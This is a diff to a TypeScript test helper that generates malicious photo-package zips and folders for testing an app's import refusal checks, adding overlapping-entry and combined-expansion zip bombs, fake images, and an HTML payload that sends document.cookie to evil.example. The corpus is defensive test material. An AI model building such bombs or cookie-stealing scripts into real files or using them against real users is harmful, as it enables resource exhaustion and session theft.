@@ -3,9 +3,11 @@
  * written byte by byte (zip libraries refuse to write most of these), so each case is exactly
  * the attack it names.
  */
+import { createHash } from 'node:crypto';
 import fs from 'node:fs';
 import path from 'node:path';
 import zlib from 'node:zlib';
+import sharp from 'sharp';
 import type { ImportLimits, RefusalReason } from '../../src/main/share/refusal';
 import { defaultImportLimits } from '../../src/main/share/refusal';
 import { filesUnder } from './helpers';
@@ -21,10 +23,21 @@ export interface RawEntry {
   declaredSize?: number;
 }
 
-/** A minimal, standard zip: local headers, central directory, end record. */
-export function rawZip(entries: readonly RawEntry[]): Buffer {
+/** A second central-directory record for an entry's local header and data, under another name. */
+export interface AliasEntry {
+  name: string;
+  /** The entry whose bytes it points at. */
+  of: string;
+}
+
+/**
+ * A minimal, standard zip: local headers, central directory, end record. Aliases make it a
+ * crafted one: more central records than local entries, several pointing at the same bytes.
+ */
+export function rawZip(entries: readonly RawEntry[], aliases: readonly AliasEntry[] = []): Buffer {
   const locals: Buffer[] = [];
   const centrals: Buffer[] = [];
+  const centralByName = new Map<string, Buffer>();
   let offset = 0;
   for (const entry of entries) {
     const name = typeof entry.name === 'string' ? Buffer.from(entry.name, 'utf8') : entry.name;
@@ -57,16 +70,55 @@ export function rawZip(entries: readonly RawEntry[]): Buffer {
     central.writeUInt32LE(offset, 42);
     locals.push(local, name, body);
     centrals.push(central, name);
+    centralByName.set(name.toString('utf8'), central);
     offset += local.length + name.length + body.length;
   }
+  for (const alias of aliases) {
+    const name = Buffer.from(alias.name, 'utf8');
+    const central = Buffer.from(centralByName.get(alias.of)!);
+    central.writeUInt16LE(name.length, 28);
+    centrals.push(central, name);
+  }
+  const records = entries.length + aliases.length;
   const directory = Buffer.concat(centrals);
   const end = Buffer.alloc(22);
   end.writeUInt32LE(0x06054b50, 0);
-  end.writeUInt16LE(entries.length, 8);
-  end.writeUInt16LE(entries.length, 10);
+  end.writeUInt16LE(records, 8);
+  end.writeUInt16LE(records, 10);
   end.writeUInt32LE(directory.length, 12);
   end.writeUInt32LE(offset, 16);
   return Buffer.concat([...locals, directory, end]);
+}
+
+interface PackageFileEntry {
+  path: string;
+  sha256: string;
+  bytes: number;
+}
+
+/** `size` bytes that deflate about `ratio` times: seeded noise spread thinly among zeros. */
+function compressibleBytes(size: number, ratio: number): Buffer {
+  const data = Buffer.alloc(size);
+  let state = 7;
+  for (let i = 0; i < size; i += Math.round(ratio / 1.6)) {
+    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
+    data[i] = state >>> 24;
+  }
+  return data;
+}
+
+/** RIFF/WEBP magic with nothing decodable after it. */
+function fakeWebp(): Buffer {
+  const data = Buffer.alloc(64, 0xee);
+  data.write('RIFF', 0, 'latin1');
+  data.writeUInt32LE(data.length - 8, 4);
+  data.write('WEBPVP8 ', 8, 'latin1');
+  return data;
+}
+
+/** The JPEG start-of-image marker and an APP0 header, then nothing a decoder can use. */
+function jpegHeaderOnly(): Buffer {
+  return Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.alloc(32, 0xff)]);
 }
 
 export interface MaliciousCase {
@@ -79,21 +131,36 @@ export interface MaliciousCase {
 }
 
 /** Builds every hostile package under outDir from the valid package folder `valid`. */
-export function makeMaliciousCorpus(valid: string, outDir: string): MaliciousCase[] {
+export async function makeMaliciousCorpus(valid: string, outDir: string): Promise<MaliciousCase[]> {
+  // A real image, but not what images/ holds.
+  const jpeg = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#808080' } }).jpeg().toBuffer();
   fs.mkdirSync(outDir, { recursive: true });
   const validEntries = (): RawEntry[] => filesUnder(valid).map((rel) => ({ name: rel, data: fs.readFileSync(path.join(valid, rel)) }));
   const manifest = JSON.parse(fs.readFileSync(path.join(valid, 'manifest.json'), 'utf8')) as {
     formatVersion: number;
-    photos: { image: { path: string; bytes: number } }[];
+    photos: { sha256: string; image: PackageFileEntry; original?: PackageFileEntry }[];
   };
   const withManifestBytes = (data: Buffer): RawEntry[] => validEntries().map((e) => (e.name === 'manifest.json' ? { ...e, data } : e));
   const withManifest = (change: (m: typeof manifest) => unknown): RawEntry[] =>
     withManifestBytes(Buffer.from(JSON.stringify(change(structuredClone(manifest)))));
   const firstImage = manifest.photos[0]!.image.path;
+  const described = (data: Buffer) => ({ sha256: createHash('sha256').update(data).digest('hex'), bytes: data.length });
+  /** The valid entries, with `rel` holding `data` and the manifest describing it truthfully. */
+  const withReplaced = (rel: string, data: Buffer): RawEntry[] =>
+    withManifest((m) => {
+      for (const photo of m.photos) for (const file of [photo.image, photo.original]) if (file?.path === rel) Object.assign(file, described(data));
+      return m;
+    }).map((e) => (e.name === rel ? { ...e, data } : e));
+  /** The valid entries with a manifest giving these photos' originals (entries for them not included). */
+  const withOriginals = (names: string[], data: () => Buffer): RawEntry[] =>
+    withManifest((m) => {
+      names.forEach((name, i) => (m.photos[i]!.original = { path: name, ...described(data()) }));
+      return m;
+    });
   const cases: MaliciousCase[] = [];
-  const zipCase = (name: string, reason: RefusalReason, entries: RawEntry[], limits: Partial<ImportLimits> = {}) => {
+  const zipCase = (name: string, reason: RefusalReason, entries: RawEntry[], limits: Partial<ImportLimits> = {}, aliases: AliasEntry[] = []) => {
     const file = path.join(outDir, `${name}.zip`);
-    fs.writeFileSync(file, rawZip(entries));
+    fs.writeFileSync(file, rawZip(entries, aliases));
     cases.push({ name, path: file, reason, limits: { ...defaultImportLimits, ...limits } });
   };
   const evil = { data: Buffer.from('pwned') };
@@ -141,6 +208,39 @@ export function makeMaliciousCorpus(valid: string, outDir: string): MaliciousCas
       return m;
     }).map((e) => (e.name === firstImage ? { ...e, method: 8 as const, declaredSize: e.data.length - 10 } : e)),
   );
+  // Six photos' originals, each a central record pointing at one deflate stream that expands 90x
+  // (under the per-entry limit of 100x): the 1.15 MB zip of issue 13 that imported as 601 MB.
+  const stream = compressibleBytes(2 * 1024 * 1024, 90);
+  const shared = manifest.photos.slice(0, 6).map((photo) => `originals/${photo.sha256}.jpg`);
+  zipCase(
+    'overlapping-entries',
+    'overlapping-entries',
+    [...withOriginals(shared, () => stream), { name: shared[0]!, data: stream, method: 8 }],
+    {},
+    shared.slice(1).map((name) => ({ name, of: shared[0]! })),
+  );
+  // Every original just at the size where the ratio of one entry starts being checked, and highly
+  // compressed: none is a bomb alone, together they expand far past the package's own size. The
+  // ratio limit is set to half that expansion, so the case stays a few MB.
+  const padded = manifest.photos.map((photo) => `originals/${photo.sha256}.jpg`);
+  const padding = Buffer.alloc(1024 * 1024);
+  const paddedEntries = [...withOriginals(padded, () => padding), ...padded.map((name) => ({ name, data: padding, method: 8 as const }))];
+  const expansion = paddedEntries.reduce((sum, e) => sum + e.data.length, 0) / rawZip(paddedEntries).length;
+  zipCase('expands-past-the-package', 'compression-ratio', paddedEntries, { maxRatio: Math.floor(expansion / 2) });
+  // Content that is not what its name says, with the manifest agreeing byte for byte.
+  const script = Buffer.from('<html><script>fetch("https://evil.example/?" + document.cookie)</script></html>');
+  zipCase('image-not-webp', 'not-an-image', withReplaced(firstImage, script));
+  zipCase('image-undecodable-webp', 'not-an-image', withReplaced(firstImage, fakeWebp()));
+  zipCase('image-is-a-jpeg', 'not-an-image', withReplaced(firstImage, jpeg));
+  const firstOriginal = `originals/${manifest.photos[0]!.sha256}.jpg`;
+  zipCase('original-not-media', 'not-an-image', [
+    ...withOriginals([firstOriginal], () => script),
+    { name: firstOriginal, data: script },
+  ]);
+  zipCase('original-undecodable-jpeg', 'not-an-image', [
+    ...withOriginals([firstOriginal], jpegHeaderOnly),
+    { name: firstOriginal, data: jpegHeaderOnly() },
+  ]);
   const notZip = path.join(outDir, 'not-a-zip.zip');
   fs.writeFileSync(notZip, 'this is not a zip file at all, just text');
   cases.push({ name: 'not-a-zip', path: notZip, reason: 'not-a-package', limits: defaultImportLimits });
@@ -157,6 +257,11 @@ export function makeMaliciousCorpus(valid: string, outDir: string): MaliciousCas
   });
   folderCase('folder-symlink-dir', 'symlink', (dir) => {
     fs.symlinkSync('/etc', path.join(dir, 'thumbs', 'etc'));
+  });
+  folderCase('folder-image-not-webp', 'not-an-image', (dir) => {
+    for (const entry of withReplaced(firstImage, script)) {
+      if (entry.name === firstImage || entry.name === 'manifest.json') fs.writeFileSync(path.join(dir, entry.name as string), entry.data);
+    }
   });
   folderCase('folder-tampered-image', 'checksum-mismatch', (dir) => {
     const file = path.join(dir, firstImage);
